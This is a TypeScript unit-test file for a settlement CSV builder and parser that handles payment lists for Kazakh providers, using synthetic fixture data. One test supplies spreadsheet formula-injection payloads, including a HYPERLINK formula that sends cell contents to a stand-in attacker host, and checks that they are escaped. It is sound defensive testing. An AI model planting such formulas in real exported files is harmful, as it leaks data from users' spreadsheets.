import { makeKzIban } from '../../domain/identifiers';
import { type PaymentListLine, PaymentListInvariantError } from '../../domain/payment-list';
import { bin, paymentList } from '../support/payment-list-fixture';
import { SettlementCsvFormatError, buildSettlementCsv, parseSettlementCsv } from '../../domain/settlement-csv';


const AES_BIN = bin('98044000123');
const AES_IBAN = makeKzIban('601', '0000000000001');

function line(lineNo: number, overrides: Partial<PaymentListLine> = {}): PaymentListLine {
  return {
    lineNo,
    endToEndId: `HSBK20261127-${String(lineNo).padStart(3, '0')}`,
    providerId: `P${lineNo}`,
    providerName: `ТОО «Поставщик ${lineNo}»`,
    providerBin: bin(`1${String(lineNo).padStart(2, '0')}54000654`),
    iban: makeKzIban('722', `AAAA${String(lineNo).padStart(9, '0')}`),
    bic: 'CASPKZKA',
    knp: '856',
    kbe: '17',
    amount: `${lineNo * 1000}.${String(lineNo).padStart(2, '0')}`,
    paymentCount: lineNo * 10,
    ...overrides,
  };
}

const list = paymentList;

const HEADER = 'line_no,end_to_end_id,provider_id,provider_name,provider_bin,provider_iban,provider_bic,knp,kbe,amount,payment_count,business_date,execution_date';

describe('buildSettlementCsv', () => {
  it('writes a header, one row per line and a TOTAL row, each ended by CRLF', () => {
    const input = list([line(1, { providerId: 'AES', providerName: 'АО «Алматыэнергосбыт»', providerBin: AES_BIN, iban: AES_IBAN, bic: 'HSBKKZKX', amount: '18452310.45', paymentCount: 1234 })]);
    expect(buildSettlementCsv(input)).toBe(
      `${HEADER}\r\n` +
        `1,HSBK20261127-001,AES,АО «Алматыэнергосбыт»,${AES_BIN},${AES_IBAN},HSBKKZKX,856,17,18452310.45,1234,2026-11-27,2026-11-30\r\n` +
        'TOTAL,,,,,,,,,18452310.45,1234,2026-11-27,2026-11-30\r\n',
    );
  });

  it('has no byte-order mark and no bare LF outside quoted fields', () => {
    const csv = buildSettlementCsv(list([line(1), line(2)]));
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('reads back exactly the lines it was given, with the total', () => {
    const input = list([line(1), line(2), line(3, { amount: '0.01' }), line(4, { paymentCount: 0, amount: '7.00' })]);
    const parsed = parseSettlementCsv(buildSettlementCsv(input));
    expect(parsed.lines).toEqual(input.lines);
    expect(parsed.businessDate).toBe('2026-11-27');
    expect(parsed.executionDate).toBe('2026-11-30');
    // amounts 1000.01 + 2000.02 + 0.01 + 7.00; payments 10 + 20 + 30 + 0
    expect(parsed.total).toEqual({ amount: '3007.04', paymentCount: 60, lineCount: 4 });
  });

  it('sums 0.01 + 0.02 + ... + 0.20 to exactly 2.10', () => {
    const lines = Array.from({ length: 20 }, (_, i) => line(i + 1, { amount: `0.${String(i + 1).padStart(2, '0')}` }));
    const csv = buildSettlementCsv(list(lines));
    expect(csv.endsWith('TOTAL,,,,,,,,,2.10,2100,2026-11-27,2026-11-30\r\n')).toBe(true);
    expect(parseSettlementCsv(csv).total.amount).toBe('2.10');
  });

  it('quotes names with commas, quotes and line breaks, and reads them back unchanged', () => {
    const tricky = ['ТОО "Тартып", вывоз мусора', 'ОСИ «Самал»\r\nдом 33', 'КСК "Орбита"\nкорпус 2, кв. "А"', ' пробелы по краям ', 'Әғқңөұүһі & <КСК>'];
    const input = list(tricky.map((name, i) => line(i + 1, { providerName: name })));
    const csv = buildSettlementCsv(input);
    expect(csv).toContain(',"ТОО ""Тартып"", вывоз мусора",');
    expect(csv).toContain(',"ОСИ «Самал»\r\nдом 33",');
    expect(csv).toContain(',"КСК ""Орбита""\nкорпус 2, кв. ""А""",');
    expect(csv).toContain(', пробелы по краям ,');
    expect(csv).toContain(',Әғқңөұүһі & <КСК>,');
    expect(parseSettlementCsv(csv).lines.map((l) => l.providerName)).toEqual(tricky);
  });

  it('writes cells that a spreadsheet would run as a formula with a leading quote, and reads them back unchanged', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+7 701', '-1+2', '@SUM(A1)', '\tТОО', '\rТОО', "'=already quoted", 'ТОО =ok'];
    const csv = buildSettlementCsv(list(hostile.map((name, i) => line(i + 1, { providerName: name }))));
    const nameCells = csv.split('\r\n').slice(1, -2).map((record) => record.split(',')[3] ?? '');
    for (const cell of nameCells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(csv).toContain(",'@SUM(A1),");
    expect(csv).toContain(",''=already quoted,");
    expect(csv).toContain(',ТОО =ok,');
    expect(parseSettlementCsv(csv).lines.map((l) => l.providerName)).toEqual(hostile);
  });

  it('is deterministic and lists lines by line number whatever the input order', () => {
    const input = list([line(3), line(1), line(2)]);
    const csv = buildSettlementCsv(input);
    expect(buildSettlementCsv(input)).toBe(csv);
    expect(buildSettlementCsv(list([line(1), line(2), line(3)]))).toBe(csv);
    expect(parseSettlementCsv(csv).lines.map((l) => l.lineNo)).toEqual([1, 2, 3]);
  });

  it('refuses a list that breaks an invariant, like the XML does', () => {
    expect(() => buildSettlementCsv(list([]))).toThrow(PaymentListInvariantError);
    expect(() => buildSettlementCsv(list([line(1, { amount: '1.005' })]))).toThrow(/amount is whole tiyn/);
    expect(() => buildSettlementCsv(list([line(1), line(2, { endToEndId: 'HSBK20261127-001' })]))).toThrow(/EndToEndId unique/);
  });
});

describe('parseSettlementCsv', () => {
  const csv = () => buildSettlementCsv(list([line(1), line(2)]));

  it('accepts a file whose CRLFs an editor turned into LF', () => {
    expect(parseSettlementCsv(csv().replace(/\r\n/g, '\n')).lines).toEqual([line(1), line(2)]);
  });

  it('rejects a TOTAL row that differs from the sum of the lines', () => {
    const tampered = csv().replace('TOTAL,,,,,,,,,3000.03,', 'TOTAL,,,,,,,,,3000.04,');
    expect(() => parseSettlementCsv(tampered)).toThrow(SettlementCsvFormatError);
    expect(() => parseSettlementCsv(tampered)).toThrow(/TOTAL amount 3000.04 differs from the sum of the lines 3000.03/);
  });

  it('rejects a file without its TOTAL row, a wrong header, a byte-order mark or an open quote', () => {
    const text = csv();
    expect(() => parseSettlementCsv(text.slice(0, text.indexOf('TOTAL')))).toThrow(/last record must be the TOTAL row/);
    expect(() => parseSettlementCsv(text.replace('line_no', 'lineno'))).toThrow(/header must be exactly/);
    expect(() => parseSettlementCsv(`\uFEFF${text}`)).toThrow(/byte-order mark/);
    expect(() => parseSettlementCsv(text.replace('ТОО «Поставщик 1»', '"ТОО «Поставщик 1»'))).toThrow(SettlementCsvFormatError);
  });
});
